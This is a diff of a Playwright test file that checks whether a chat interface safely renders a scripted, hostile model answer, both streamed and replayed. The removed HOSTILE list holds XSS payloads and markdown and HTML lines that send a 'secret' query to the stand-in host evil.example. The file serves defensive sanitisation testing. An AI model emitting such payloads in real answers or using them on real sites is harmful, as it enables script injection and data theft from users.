@@ -1,36 +1,12 @@
-import { finish, says, script } from "./provider";
+import type { Locator } from "@playwright/test";
+import { HOSTILE } from "./hostile";
+import { finish, reasons, says, script } from "./provider";
+import { Replay } from "./replay";
 import { expect, openScripted, test } from "./test";
-
-/** Text that a model was talked into writing. The guard of every test sees requests, dialogs and violations. */
-const HOSTILE = [
-  "<script>alert(1)</script>",
-  "<img src=x onerror=alert(1)>",
-  "<svg onload=alert(1)>",
-  "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
-  "[a](javascript:alert(1))",
-  "[a](JaVaScRiPt&#58;alert(1))",
-  "[a](data:text/html;base64,PHNjcmlwdD4=)",
-  "[a](vbscript:msgbox)",
-  "[a](//evil.example)",
-  "![x](https://evil.example/p.png?q=secret)",
-  "![x](//evil.example/p.png?q=secret)",
-  '<img src="https://evil.example/p?q=secret">',
-  "![x][r]",
-  "[r]: https://evil.example/r",
-  "<style>@import url(https://evil.example/s)</style>",
-  "<form action=https://evil.example><button>Go</button></form>",
-  '<link rel="stylesheet" href="https://evil.example/s.css"><base href="https://evil.example/">',
-  '<"onmouseover=alert(1)"@evil.example> "onmouseover=alert(1)"@evil.example',
-  "| a |\n|---|\n| ![x](https://evil.example/t.png) |",
-  "- ![x](https://evil.example/l.png)",
-  "> <img src=https://evil.example/q.png>",
-  "```html\n<script>alert(1)</script>\n<img src=https://evil.example/c.png>\n```",
-  "# ![x](https://evil.example/h.png)",
-  "The end.",
-].join("\n\n");
+import { watchRenders } from "./watch-renders";
 
 /** What a link of the page may be. */
-const expectHarmless = async (place: import("@playwright/test").Locator) => {
+const expectHarmless = async (place: Locator) => {
   const links = await place.locator("a").evaluateAll((all) =>
     all.map((link) => {
       const { protocol, target, rel } = link as HTMLAnchorElement;
@@ -53,7 +29,8 @@ test("an answer that streams letter by letter reaches nobody and runs nothing", 
   page,
 }) => {
   const letters = [...HOSTILE].flatMap((letter) => [says(letter), { delay: 0.006 }]);
-  const { chatId } = await openScripted({ api, chat }, [...letters, ...finish()]);
+  const steps = [reasons(HOSTILE), ...letters, ...finish()];
+  const { chatId } = await openScripted({ api, chat }, steps);
   await chat.send("Be evil.");
   await chat.expectSettled();
   await expect(chat.answer).toContainText("The end.");
@@ -61,6 +38,25 @@ test("an answer that streams letter by letter reaches nobody and runs nothing", 
   expect((await api.messages(chatId))[1]?.content).toBe(HOSTILE);
   await page.reload();
   await expect(chat.answer).toContainText("The end.");
+  await chat.answer.getByText(/^Thought/).click();
+  await expectHarmless(chat.answer);
+  await page.goto(`/chats/${chatId}/read`);
+  await expect(page.getByRole("button", { name: "Print" })).toBeEnabled();
+  await expect(page.getByText("The end.")).toHaveCount(2);
+  await expectHarmless(page.getByRole("main"));
+});
+
+test("no prefix of it that is painted does", async ({ api, chat, page }) => {
+  // One after the other, and not only what a frame brings.
+  await page.addInitScript(() => {
+    window.requestAnimationFrame = (act) => window.setTimeout(() => act(performance.now()), 0);
+  });
+  const renders = await watchRenders(page);
+  const replay = await Replay.begin({ api, chat });
+  await renders.forget();
+  await replay.play(HOSTILE, { step: 1, every: "commit" });
+  await expect(chat.answer).toContainText("The end.");
+  expect((await renders.commits()).length).toBeGreaterThanOrEqual(HOSTILE.length);
   await expectHarmless(chat.answer);
 });
 
